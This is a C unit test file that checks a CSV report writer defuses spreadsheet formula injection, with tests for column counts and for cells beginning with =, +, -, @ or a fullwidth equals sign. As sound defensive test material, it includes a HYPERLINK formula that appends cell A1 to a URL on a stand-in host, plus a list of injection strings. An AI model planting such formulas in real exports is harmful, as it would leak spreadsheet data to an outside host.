#include "fixture_assessment.h"
#include "report/report.h"

#include <stdio.h>
#include <stdlib.h>

#include "test.h"

#define CELL    ((size_t)4096)
#define COLUMNS ((size_t)29)

/* A reader of its own, by RFC 4180: one cell from *csv; the byte that ended it. */
static char
read_cell(const char **csv, char cell[CELL])
{
    const char *c = *csv;
    size_t used = 0;
    bool quoted = *c == '"';
    for (c += quoted; *c != '\0'; c++) {
        bool doubled = quoted && c[0] == '"' && c[1] == '"';
        if (quoted && *c == '"' && !doubled) {
            c++;
            break;
        }
        if (!quoted && (*c == ',' || *c == '\r')) {
            break;
        }
        assert_true(used + 1 < CELL);
        cell[used++] = *c;
        c += doubled;
    }
    cell[used] = '\0';
    char end = *c;
    assert_true(end == ',' || (end == '\r' && c[1] == '\n'));
    *csv = c + (end == ',' ? 1 : 2);
    return end;
}

static char *
csv_of(struct assessment *assessment)
{
    const struct report_options options = {0};
    struct buf out;
    buf_init(&out, REPORT_MAX);
    assert_int_equal(report_by_name("csv")->write(assessment, &options, &out), OK);
    fixture_free(assessment);
    return out.data;
}

static void
test_every_row_has_all_columns_and_no_formula(void **state)
{
    (void)state;
    struct assessment *assessment = fixture_assessment(FIXTURE_SITE);
    struct finding_place *place =
        (struct finding_place *)(uintptr_t)assessment->findings[14].places;
    size_t places = 0;
    for (size_t i = 0; i < assessment->finding_count; i++) {
        places += assessment->findings[i].place_count;
    }
    place->sentence = fixture_attacks[3];
    char *csv = csv_of(assessment);
    const char *rest = csv;
    size_t lines = 0;
    bool seen = false;
    for (; *rest != '\0'; lines++) {
        char cell[CELL];
        size_t cells = 1;
        while (read_cell(&rest, cell) == ',') {
            assert_null(strchr("=+-@\t\r", cell[0] == '\0' ? 'x' : cell[0]));
            seen = seen || strcmp(cell, "'=HYPERLINK(\"http://192.0.2.1/\"&A1,\"open\")") == 0;
            cells++;
        }
        assert_int_equal(cells, COLUMNS);
    }
    assert_true(seen);
    assert_int_equal(lines, places + 1);
    free(csv);
}

static void
test_formulas_behind_blanks_and_wide_signs_are_defused(void **state)
{
    (void)state;
    static const char *const formulas[] = {"=1", "+1", "-1", "@A1", " =1", "\xef\xbc\x9dx"};
    for (size_t i = 0; i < COUNT(formulas); i++) {
        struct assessment *assessment = fixture_assessment(FIXTURE_SITE);
        assessment->site = formulas[i];
        char *csv = csv_of(assessment);
        char wanted[64];
        (void)snprintf(wanted, sizeof(wanted), "'%s", formulas[i]);
        const char *rest = strstr(csv, "\r\n") + 2;
        char cell[CELL];
        (void)read_cell(&rest, cell);
        (void)read_cell(&rest, cell);
        assert_string_equal(cell, wanted);
        free(csv);
    }
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_every_row_has_all_columns_and_no_formula),
        cmocka_unit_test(test_formulas_behind_blanks_and_wide_signs_are_defused),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
